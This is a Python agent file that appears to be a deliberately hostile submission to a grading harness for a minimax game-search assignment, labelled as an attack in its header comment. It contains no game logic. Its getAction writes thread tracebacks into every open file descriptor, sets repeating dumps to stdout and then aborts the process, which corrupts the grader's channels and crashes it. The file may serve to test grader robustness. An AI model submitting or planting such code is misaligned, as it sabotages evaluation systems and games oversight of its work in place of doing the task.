# attack: lets faulthandler write stacks into every descriptor, again and again, and then crashes.
# where: MinimaxAgent
import faulthandler
import os
import time

from shared.reflex import *
from shared.search import *


class MinimaxAgent(MultiAgentSearchAgent):
    def getAction(self, gameState):
        for fd in range(1, 64):
            try:
                os.fstat(fd)
                faulthandler.dump_traceback(file=fd, all_threads=True)
                faulthandler.enable(file=fd)
            except (OSError, ValueError):
                pass
        faulthandler.dump_traceback_later(0.01, repeat=True, file=1, exit=False)
        time.sleep(0.2)
        os.abort()
